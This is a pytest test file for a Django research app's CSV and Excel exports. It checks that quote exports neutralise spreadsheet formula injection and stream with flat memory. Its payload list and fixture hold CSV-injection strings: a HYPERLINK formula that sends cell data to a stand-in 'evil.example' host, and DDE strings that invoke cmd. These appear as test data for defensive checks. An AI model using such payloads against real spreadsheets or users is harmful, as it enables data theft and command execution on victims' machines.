import csv
import io
import re
import tracemalloc
import zipfile

import pytest
from django.db import connection
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from coding.models import Quote, QuoteTheme, Theme
from coding.report.exports.csv import FORMULA_TRIGGERS, csv_chunks, csv_line, neutralise
from coding.report.exports.rows import ExportOptions, quote_rows
from coding.report.exports.xlsx import write_xlsx
from interviews.models import OrganisationType, Participant, Transcript

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/steal?x="&A1,"Click me")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
]


def stored_payloads() -> list[str]:
    """PostgreSQL text cannot hold NUL at all, so that payload exists on SQLite only."""
    if connection.vendor == "postgresql":
        return [payload for payload in PAYLOADS if "\0" not in payload]
    return PAYLOADS


@pytest.fixture
def hostile(project_a, enabler):
    """Every free-text cell of a row starts with a payload: quote, memo, title, role, theme."""
    payloads = stored_payloads()
    participant = Participant.objects.create(
        project=project_a,
        pseudonym="=P01",
        role_title="@chief executive",
        organisation_type=OrganisationType.ACUTE_TRUST,
    )
    text = " ".join(payloads) + " tail"
    transcript = Transcript.objects.create(
        project=project_a,
        title='=HYPERLINK("http://evil.example","t")',
        title_is_safe=True,
        text=text,
    )
    transcript.participants.add(participant)
    theme = Theme.objects.create(project=project_a, name="+Theme")
    start = 0
    for n, payload in enumerate(payloads):
        quote = Quote.objects.create(
            transcript=transcript,
            start=start,
            end=start + len(payload),
            text=payload,
            coder=enabler,
            memo=payloads[(n + 1) % len(payloads)],
            is_cleared=True,
        )
        QuoteTheme.objects.create(content_object=quote, tag=theme)
        start += len(payload) + 1
    return project_a


def test_neutralise():
    for payload in PAYLOADS:
        assert neutralise(payload) == "'" + payload
    assert neutralise("plain text") == "plain text"
    assert neutralise("") == ""
    assert len(FORMULA_TRIGGERS) == 7


def test_csv_every_trigger_cell_starts_with_an_apostrophe_and_round_trips(hostile):
    options = ExportOptions(with_pseudonyms=True, with_memos=True)
    expected = list(quote_rows(project=hostile, options=options))
    data = "".join(csv_chunks(quote_rows(project=hostile, options=options)))
    assert data.startswith("\ufeff")
    read = list(csv.reader(io.StringIO(data[1:], newline="")))
    payloads = stored_payloads()
    assert len(read) == len(expected) == 1 + len(payloads)
    triggered = 0
    for original_row, read_row in zip(expected, read, strict=True):
        for original, cell in zip(original_row, read_row, strict=True):
            assert not cell.startswith(FORMULA_TRIGGERS), repr(cell)
            if original.startswith(FORMULA_TRIGGERS):
                assert cell == "'" + original  # exact round trip, RFC 4180 quoting
                triggered += 1
            else:
                assert cell == original
    # Per row: theme, quote, title, pseudonym, role and memo carry a payload.
    assert triggered == 6 * len(payloads)
    assert sorted(row[1] for row in read[1:]) == sorted("'" + p for p in payloads)


def test_csv_writer_neutralises_all_eight_payloads_in_every_column():
    rows = [["header", "second"], *([payload, f"x{payload}"] for payload in PAYLOADS)]
    data = "".join(csv_chunks(iter(rows), bom=False))
    read = list(csv.reader(io.StringIO(data, newline="")))
    assert [row[0] for row in read[1:]] == ["'" + payload for payload in PAYLOADS]
    assert [row[1] for row in read[1:]] == [f"x{payload}" for payload in PAYLOADS]


def excel_text(cell) -> str:
    """The cell's text as Excel reads it: OOXML stores control characters as _xHHHH_
    (and a literal "_xHHHH_" as "_x005F_xHHHH_"), which openpyxl's reader leaves as is."""
    return unescape(cell.value)


def test_xlsx_writer_stores_all_eight_payloads_as_strings():
    out = io.BytesIO()
    literal = "_x000D_ is text"  # an escape-like text is itself escaped, so it stays text
    rows = [["h"], *([payload] for payload in PAYLOADS), ["#N/A"], ["#REF!"], [literal]]
    write_xlsx(iter(rows), out)
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert re.search(r"<(\w+:)?f[ >/]", sheet) is None
    cells = [
        c for row in load_workbook(io.BytesIO(out.getvalue())).active.iter_rows() for c in row
    ]
    assert {c.data_type for c in cells} == {"s"}
    assert [excel_text(c) for c in cells[1:]] == [p.replace("\0", "\ufffd") for p in PAYLOADS] + [
        "#N/A",
        "#REF!",
        literal,
    ]


def xlsx_bytes(project) -> bytes:
    out = io.BytesIO()
    write_xlsx(quote_rows(project=project, options=ExportOptions(with_pseudonyms=True)), out)
    return out.getvalue()


def test_xlsx_has_no_formulas_and_no_hyperlinks(hostile):
    data = xlsx_bytes(hostile)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        names = archive.namelist()
        for name in names:
            if not name.endswith((".xml", ".rels")):
                continue
            xml = archive.read(name).decode("utf-8")
            assert re.search(r"<(\w+:)?f[ >/]", xml) is None, name
            assert re.search(r"<(\w+:)?hyperlinks?[ >/]", xml) is None, name
            assert 'TargetMode="External"' not in xml, name
            if name.endswith(".rels"):
                assert "relationships/hyperlink" not in xml, name
        sheet = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
        assert "=HYPERLINK(" in sheet  # present, as text
    assert not any("vbaProject" in name for name in names)


def test_xlsx_cells_read_back_as_plain_strings(hostile):
    sheet = load_workbook(io.BytesIO(xlsx_bytes(hostile))).active
    values = []
    for row in sheet.iter_rows():
        for cell in row:
            if cell.value is not None:
                assert cell.data_type == "s", (cell.coordinate, cell.value)
                values.append(excel_text(cell))
    texts = set(values)
    for payload in PAYLOADS[:5]:
        assert payload in texts
    assert "\t=1+1" in texts and "\r=1+1" in texts
    if connection.vendor != "postgresql":
        assert "\ufffd=1+1" in texts  # NUL cannot live in XML: replaced, not dropped silently


def test_csv_memory_is_flat(project_a, enabler):
    """The peak while streaming 4,000 rows and 20,000 rows is the same, give or take.

    Rows are fetched 2,000 at a time, so the peak grows until the first full chunk and
    then stays put: both sizes here are past that point.
    """
    from tests.coding.report_data import add_bulk_quotes

    transcript = Transcript.objects.create(project=project_a, title="Long", text="x " * 12_000)
    themes = [
        Theme.objects.create(project=project_a, name="Theme"),
        Theme.objects.create(project=project_a, name="Other"),
    ]

    def peak() -> int:
        tracemalloc.start()
        for _chunk in csv_chunks(
            quote_rows(project=project_a, options=ExportOptions(all_quotes=True))
        ):
            pass
        _, top = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        return top

    add_bulk_quotes(transcript, enabler, themes, 2_000)
    peak()  # first use: imports and caches, not rows
    small = peak()
    add_bulk_quotes(transcript, enabler, themes, 8_000)
    large = peak()
    assert large < small * 1.3, (small, large)


def download_xlsx(project) -> bytes:
    from coding.report.exports import EXPORTERS, Source
    from coding.report.summaries import Filters

    out = io.BytesIO()
    EXPORTERS["xlsx"].write(Source(project, Filters(), ExportOptions()), out)
    return out.getvalue()


def test_xlsx_download_has_a_summary_and_a_formatted_quotes_sheet(hostile):
    data = download_xlsx(hostile)
    workbook = load_workbook(io.BytesIO(data))
    assert workbook.sheetnames == ["Summary", "Quotes"]
    summary, quotes = workbook["Summary"], workbook["Quotes"]
    assert [c.value for c in summary[1]][:6] == [
        "Theme", "Quotes", "Cleared", "Interviews", "Participants", "Local systems"
    ]  # fmt: skip
    assert [c.value for c in summary[2]][:3] == ["+Theme", str(len(stored_payloads())), str(
        len(stored_payloads()))]  # fmt: skip
    for sheet in (summary, quotes):
        assert sheet.freeze_panes == "A2"
        assert all(cell.font.bold for cell in sheet[1])
        assert sheet.auto_filter.ref == f"A1:{sheet[1][-1].column_letter}{sheet.max_row}"
    header = [c.value for c in quotes[1]]
    quote_column = quotes[1][header.index("quote")].column_letter
    # XlsxWriter stores the width in characters plus Excel's cell padding: 80 -> 80.71.
    assert int(quotes.column_dimensions[quote_column].width) == 80
    assert int(quotes.column_dimensions["A"].width) == 36  # theme
    assert quotes[f"{quote_column}2"].alignment.wrap_text
    # Still only plain strings, in both sheets: no formula, no hyperlink.
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.endswith((".xml", ".rels")):
                xml = archive.read(name).decode("utf-8")
                assert re.search(r"<(\w+:)?f[ >/]", xml) is None, name
                assert re.search(r"<(\w+:)?hyperlinks?[ >/]", xml) is None, name
    for sheet in (summary, quotes):
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    assert cell.data_type == "s", (sheet.title, cell.coordinate)


def test_each_line_is_what_the_csv_module_writes_quoting_every_field():
    rows = [
        ["plain", "", "12", "with, comma", 'say "hi"', '""', "two\nlines", "cr\rlf\r\n"],
        ["Zoë › café 😊", " lead space", "trail ", ",", '"', "\t tab", "'=1+1", "x" * 500],
    ]
    expected = io.StringIO()
    csv.writer(expected, quoting=csv.QUOTE_ALL).writerows(rows)
    assert "".join(csv_line(row) for row in rows) == expected.getvalue()
    # And every field comes back as it went in.
    assert list(csv.reader(io.StringIO(expected.getvalue()))) == rows
